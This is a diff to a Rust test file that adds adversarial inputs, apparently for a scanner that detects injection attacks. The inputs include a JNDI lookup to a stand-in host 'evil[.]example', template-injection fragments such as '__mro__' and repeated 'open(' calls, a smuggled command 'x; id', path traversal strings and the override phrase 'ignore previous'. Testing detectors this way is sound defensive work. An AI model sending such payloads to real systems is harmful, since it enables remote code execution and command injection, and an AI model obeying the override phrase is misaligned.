@@ -199,6 +199,15 @@ fn adversarial() -> Vec<(&'static str, Vec<u8>)> {
         ("sql-do-blocks", one_field("sql", rep("DO $x$ EXECUTE $y$ SELECT 1 $y$; $x$; "))),
         ("dot-dot-slashes", one_string(rep("../"))),
         ("template-delimiters", one_string(rep("{{${#{"))),
+        // Decoys before a template match: every bare match, file read and
+        // JNDI lookup is read (each line once, each read's argument bounded).
+        ("template-bare-matches", one_field("expression", rep("__mro__ , "))),
+        ("template-walks-in-prose", one_field("text", rep(".__mro__ "))),
+        ("template-file-reads", one_field("template", rep(&format!("<%= {} %>", "open(".repeat(800))))),
+        ("template-jndi-lookups", one_field("line", rep("${jndi:ldap://evil[.]example/a} "))),
+        // Prose then a value on a line of its own, again and again: every
+        // such line is read as a value (`Decoding::Tail`), each once.
+        ("value-lines-after-prose", one_field("input", rep("The cat sat on the mat.\nx; id\n"))),
         ("urls", one_string(rep("http://a@b.c/?u=http:// "))),
         ("prompt-phrases", one_string(rep("ignore previous "))),
         ("homoglyphs-and-zero-width", one_string(rep("і\u{200B}ｇ"))),
